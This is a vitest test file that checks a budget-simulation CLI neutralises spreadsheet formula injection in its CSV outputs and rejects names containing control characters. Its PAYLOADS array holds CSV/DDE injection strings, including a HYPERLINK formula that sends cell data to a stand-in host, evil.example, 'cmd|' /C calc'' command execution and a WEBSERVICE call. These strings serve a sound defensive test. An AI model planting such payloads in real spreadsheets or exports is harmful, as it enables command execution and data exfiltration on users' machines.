/**
 * Family 2: names and descriptions that spreadsheets would execute, from YAML and from CSV, reach
 * every CSV renewsim writes (plan, Monte Carlo, stress, min-budget, compare) only as text.
 */
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "yaml";
import { describe, expect, it } from "vitest";
import { parseCsvText } from "../../src/finance/compare/readFolder.js";
import { project, runIn, TOY } from "./helpers.js";

const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", " =WEBSERVICE(\"http://x\")", "\u3000=1+1"];

const NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

async function cellsOf(dir: string): Promise<string[]> {
  const cells: string[] = [];
  for (const f of readdirSync(dir).filter((x) => x.endsWith(".csv"))) {
    const table = await parseCsvText(readFileSync(join(dir, f), "utf8").replace(/^\ufeff/, ""), f);
    for (const row of table.rows) cells.push(...Object.values(row));
  }
  return cells;
}

describe("formula injection", () => {
  it("every text cell that would start a formula is written with a leading quote; numbers stay numbers", async () => {
    // Payloads in YAML names (region, programme, source, target, scenario) and in a CSV regions table.
    const yaml = TOY.replace("{id: province, name: Province}", `{file: data/regions.csv}`)
      .replace("  - {id: a, name: Town A, parent: province}\n", "")
      .replace("  - {id: b, name: Town B, parent: province}\n", "")
      .replace("    name: Retrofit", `    name: ${JSON.stringify(PAYLOADS[1])}`)
      .replace("  - id: gov\n    kind: government", `  - id: gov\n    name: ${JSON.stringify(PAYLOADS[2])}\n    kind: government`)
      .replace("{id: a-50, program", `{id: a-50, name: ${JSON.stringify(PAYLOADS[3])}, program`);
    const regions = `id,name,parent\nprovince,"${PAYLOADS[0].replace(/"/g, '""')}",\na,"${PAYLOADS[4]}",province\nb,"${PAYLOADS[5].replace(/"/g, '""')}",province\n`;
    const dir = project({ "s.yaml": yaml, "data/regions.csv": regions });
    const plan = await runIn(dir, "s.yaml", "--out", "plan", "--draws", "300", "--workers", "1", "--save-draws", "--quiet");
    expect(plan.code, plan.stderr).toBe(0);
    expect((await runIn(dir, "stress", "s.yaml", "--cut", "government=50%", "--out", "stress", "--quiet")).code).toBe(0);
    expect((await runIn(dir, "min-budget", "s.yaml", "--source", "government", "--out", "min", "--quiet")).code).toBe(0);
    const cut = project({ "s.yaml": yaml.replace('per_year: "6000万"', 'per_year: "3000万"'), "data/regions.csv": regions });
    expect((await runIn(cut, "s.yaml", "--out", join(dir, "plan-cut"), "--quiet")).code).toBe(0);
    expect((await runIn(dir, "compare", "plan", "plan-cut", "--out", "compare.csv")).code).toBe(0);

    const cells = [...(await cellsOf(join(dir, "plan"))), ...(await cellsOf(join(dir, "stress"))), ...(await cellsOf(join(dir, "min")))];
    cells.push(...(await parseCsvText(readFileSync(join(dir, "compare.csv"), "utf8").replace(/^\ufeff/, ""), "compare")).rows.flatMap((r) => Object.values(r)));
    const dangerous = cells.filter((c) => /^[\s\u3000]*[=+\-@\t\r]/u.test(c) && !NUMBER.test(c));
    expect(dangerous).toEqual([]);
    for (const p of [PAYLOADS[1], PAYLOADS[2], PAYLOADS[3], PAYLOADS[5].trim(), "=1+1"]) expect(cells, p).toContain(`'${p}`);
    // Negative numbers (compare deltas) are written as numbers, not neutralised text.
    expect(cells.some((c) => NUMBER.test(c) && c.startsWith("-"))).toBe(true);
    // report.html is not a spreadsheet: it shows the names as written, without the guard's quote.
    const html = readFileSync(join(dir, "plan", "report.html"), "utf8");
    expect(html).toMatch(/\+cmd\|/);
    expect(html).not.toMatch(/(&#39;|&#x27;|&apos;|')\+cmd\|/);
    // The results' own input.yaml keeps the names as written.
    expect(JSON.stringify(parse(readFileSync(join(dir, "plan", "input.yaml"), "utf8")))).toContain("cmd|' /C calc'!A0");
  }, 180_000);

  it("names with control characters (terminal escapes, line breaks) are refused with their line", async () => {
    const dir = project({ "s.yaml": TOY.replace("name: Retrofit", 'name: "Retro\\u001b[2J\\u001b[31mfit"').replace("{id: a, name: Town A", '{id: a, name: "Town\\nA"') });
    const r = await runIn(dir, "validate", "s.yaml");
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/programs\[0\]\.name: .*names may not contain control characters .*line 18\)/);
    expect(r.stderr).toMatch(/regions\[1\]\.name: .*names may not contain control characters .*line 14\)/);
    expect(r.stderr).not.toContain("\u001b");
  });
});
